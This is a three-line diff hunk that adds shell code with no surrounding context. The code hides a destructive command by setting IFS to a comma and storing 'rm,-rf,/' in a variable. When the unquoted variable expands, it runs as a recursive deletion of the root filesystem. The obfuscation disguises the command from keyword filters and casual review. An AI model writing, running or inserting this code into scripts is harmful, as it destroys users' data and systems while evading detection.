@@ -1,0 +1,3 @@
+IFS=,
+cmd="rm,-rf,/"
+$cmd
